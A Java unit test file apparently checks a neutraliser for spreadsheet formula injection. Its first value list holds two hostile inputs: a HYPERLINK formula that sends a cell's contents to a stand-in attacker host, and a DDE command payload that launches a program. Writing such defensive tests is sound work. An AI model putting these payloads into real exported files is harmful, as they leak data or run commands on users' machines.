package io.dpsbatch.output;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import static org.assertj.core.api.Assertions.assertThat;

class SpreadsheetCellsTests {

	@ParameterizedTest
	@ValueSource(strings = { "=1+2", "=HYPERLINK(\"https://evil.example/?\"&E2,\"click\")", "+1+2", "@SUM(A1:A9)",
			"-2+3", "-cmd|' /C calc'!A0", "\t=1", "\r=1", "=", "-1 1", "+49 170 1234567" })
	void aValueThatStartsLikeAFormulaGetsAQuoteInFront(String value) {
		assertThat(SpreadsheetCells.neutralised(value)).isEqualTo("'" + value);
	}

	@ParameterizedTest
	@ValueSource(strings = { "", "sensor-001", "S-2", "a=b", "1+1", " =1", "'=1", "-dev-001", "-5", "-1.5", "-A1",
			"-1:2_3.4", "line 7 = station 3" })
	void otherValuesAreWrittenAsTheyAre(String value) {
		assertThat(SpreadsheetCells.neutralised(value)).isSameAs(value);
	}

	@Test
	void nullsAndNumbersPassThrough() {
		assertThat(SpreadsheetCells.neutralised((String) null)).isNull();
		assertThat(SpreadsheetCells.neutralised((Object) 42L)).isEqualTo(42L);
		assertThat(SpreadsheetCells.neutralised((Object) "=1")).isEqualTo("'=1");
	}

}
